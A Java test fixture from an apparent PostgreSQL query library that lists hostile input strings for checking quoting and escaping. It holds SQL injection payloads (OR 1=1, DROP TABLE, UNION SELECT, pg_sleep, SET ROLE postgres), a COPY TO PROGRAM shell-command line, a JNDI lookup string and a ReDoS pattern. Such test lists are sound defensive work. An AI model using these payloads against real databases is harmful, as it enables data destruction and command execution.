package io.mesa.postgres.query;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** Texts that are published as attempts at injection, and such as break quoting or patterns. */
final class HostileTexts {
  static final List<String> ALL =
      List.of(
          "'",
          "''",
          "\"",
          "\"\"",
          "' OR '1'='1",
          "' OR 1=1 --",
          "\" OR \"\"=\"",
          "') OR ('1'='1",
          "'; DROP TABLE canary; --",
          "\"; DROP TABLE canary; --",
          "1; DROP TABLE canary",
          "x'; DELETE FROM canary; SELECT '",
          "x\"; TRUNCATE canary; SELECT \"",
          "'; COMMIT; DROP TABLE canary; BEGIN; --",
          "'/**/UNION/**/SELECT/**/NULL--",
          "' UNION ALL SELECT 1, 'x', version() --",
          "'||(SELECT pg_sleep(30))||'",
          "'; SELECT pg_terminate_backend(pg_backend_pid()); --",
          "'; COPY canary TO PROGRAM 'touch /tmp/x'; --",
          "'; SET ROLE postgres; --",
          "canary; --",
          "id = id OR TRUE",
          "--",
          "-- \n; DROP TABLE canary; --",
          "/*",
          "*/; DROP TABLE canary; /*",
          "/* ' */ \" $$",
          "$$",
          "$$; DROP TABLE canary; $$",
          "$mesa$; DROP TABLE canary; $mesa$",
          "$1",
          "$1::int; DROP TABLE canary",
          "?",
          "? ?? ?| ?&",
          ":name ::text {fn now()} {d 'x'}",
          "\\",
          "\\'; DROP TABLE canary; --",
          "\\\\",
          "E'\\x27; DROP TABLE canary'",
          "U&\"\\0022\" UESCAPE '\\'",
          "ʼ; DROP TABLE canary; --",
          "’ OR ’1’=’1",
          "＇ OR ＇1＇=＇1",
          "\u00bf'\u00bf\"",
          "%",
          "_",
          "%' ESCAPE '!",
          "a%b_c\\d",
          ".*",
          "^(a+)+$",
          "[[:alpha:]",
          "(?i)x{1,65000}",
          "{\"$ne\": null}",
          "{\"a\": 1}",
          "{a,NULL,\"b\"}",
          "[1, null]",
          "null",
          "NULL",
          "a.b..c",
          "public.canary",
          "\t\r\n\b\u0001\u001f\u007f",
          "%s %n %d ${jndi:ldap://x/y}",
          "\u202ecanary",
          "e\u0301 𝄞 \ufeff",
          "CTID",
          "row_to_json(canary)",
          "x".repeat(5_000),
          "'".repeat(3_000),
          "\"".repeat(3_000));

  private HostileTexts() {}

  static List<String> all() {
    return ALL;
  }

  /** As much of a text as PostgreSQL takes as a name. */
  static String asName(String text) {
    int end = text.length();
    while (text.substring(0, end).getBytes(StandardCharsets.UTF_8).length > 60) {
      end = text.offsetByCodePoints(end, -1);
    }
    return text.substring(0, end);
  }

  /** A name as a field's text: its dots and backslashes are its own. */
  static String asField(String name) {
    return name.replace("\\", "\\\\").replace(".", "\\.");
  }

  /** A text as a pattern of {@code like} that only it matches. */
  static String asPattern(String text) {
    return text.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_");
  }
}
